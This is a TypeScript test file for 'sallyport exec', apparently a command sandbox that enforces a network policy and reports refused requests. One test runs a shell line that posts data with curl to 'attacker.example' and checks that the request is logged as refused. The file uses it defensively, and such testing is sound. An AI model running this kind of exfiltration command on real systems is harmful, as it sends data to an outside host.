// The parts of `sallyport exec` by themselves, and the command in this process: what it says, and what it hands on.

import { connect, createServer, type AddressInfo } from "node:net";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, expect, test } from "vitest";
import type { AuditRecord } from "../../src/audit/schema.ts";
import { openBridge } from "../../src/exec/bridge.ts";
import { refusalsIn } from "../../src/audit/refusals.ts";
import { owner, whyNoWall } from "../../src/exec/wall.ts";
import { directory, sallyportHere } from "../cli/support.ts";

const home = mkdtempSync(join(tmpdir(), "sallyport-exec-home-"));
afterAll(() => rmSync(home, { recursive: true, force: true }));

function decision(fields: Partial<AuditRecord>): AuditRecord {
  return { type: "decision", kind: "request", verdict: "deny", ...fields } as AuditRecord;
}

test("each kind of refusal is told once, in the order of the first", async () => {
  const post = { method: "POST", scheme: "https", host: "a.example", port: 443, path: "/x" } as const;
  const refusals = await refusalsIn([
    decision({ ...post, reason: "method-not-allowed" }),
    decision({ method: "GET", verdict: "allow" }),
    decision({
      kind: "connect",
      method: "CONNECT",
      host: "b.example",
      port: 443,
      reason: "host-not-allowed",
    }),
    decision({ ...post, reason: "method-not-allowed" }),
    decision({ kind: "malformed" }),
  ]);
  expect(refusals).toEqual([
    { method: "POST", url: "https://a.example/x", reason: "method-not-allowed", times: 2 },
    { method: "CONNECT", url: "b.example:443", reason: "host-not-allowed", times: 1 },
    { method: "malformed", url: "?", reason: "deny", times: 1 },
  ]);
});

test("the bridge carries both ways, half-closes, and ends with what is open", async () => {
  const server = createServer({ allowHalfOpen: true }, (socket) => void socket.pipe(socket));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const path = join(home, "bridge.sock");
  const bridge = await openBridge(
    { path },
    { host: "127.0.0.1", port: (server.address() as AddressInfo).port },
  );
  const echoed = await connect(path).end("there and back").toArray();
  expect(Buffer.concat(echoed as Buffer[]).toString()).toBe("there and back");
  const held = connect(path);
  held.on("error", () => {});
  held.write("x");
  await new Promise((resolve) => held.once("data", resolve));
  const closed = new Promise((resolve) => held.once("close", resolve));
  await bridge.close();
  await closed;
  await new Promise((resolve) => server.close(resolve));
});

test("the command's exit code, its label, and what was refused", async () => {
  const cwd = directory("anonymous: default\n");
  const refused = "curl -s -o /dev/null -d x http://attacker.example/; exit 3";
  const run = ["exec", "--no-wall", "--label", "task=42", "--", "sh", "-c", refused];
  const { status, stderr } = await sallyportHere(run, { cwd, env: { HOME: home } });
  expect(status).toBe(3);
  expect(stderr).toContain("It is NOT held back.");
  expect(stderr).toContain("POST http://attacker.example/  host-not-allowed");
});

test.skipIf(whyNoWall() !== undefined)(
  "behind the wall, in words that say nothing where nothing was refused",
  async () => {
    const cwd = directory("anonymous: default\n");
    const run = ["exec", "--", "sh", "-c", "exit 5"];
    expect(await sallyportHere(run, { cwd, env: { HOME: home } })).toMatchObject({ status: 5, stderr: "" });
  },
);

test.each([
  ["a label without a value", ["exec", "--label", "x", "--", "true"], {}, /--label is NAME=VALUE/],
  [
    "a policy that is not there",
    ["exec", "--no-wall", "--policy", "x", "--", "true"],
    {},
    /there is no policy "x"/,
  ],
  [
    "nowhere to keep its records",
    ["exec", "--no-wall", "--", "true"],
    { HOME: "" },
    /ENOENT|nowhere|permission/,
  ],
] as const)("%s is said, and nothing is run", async (_what, run, env, said) => {
  const ended = await sallyportHere(run, {
    cwd: directory("anonymous: default\n"),
    env: { HOME: home, ...env },
  });
  expect(ended.status).not.toBe(0);
  expect(ended.stderr).toMatch(said);
});

test("inside, the command is who it is outside", () => {
  expect(owner(1000, 100)).toEqual(["--user", "--map-user=1000", "--map-group=100"]);
});
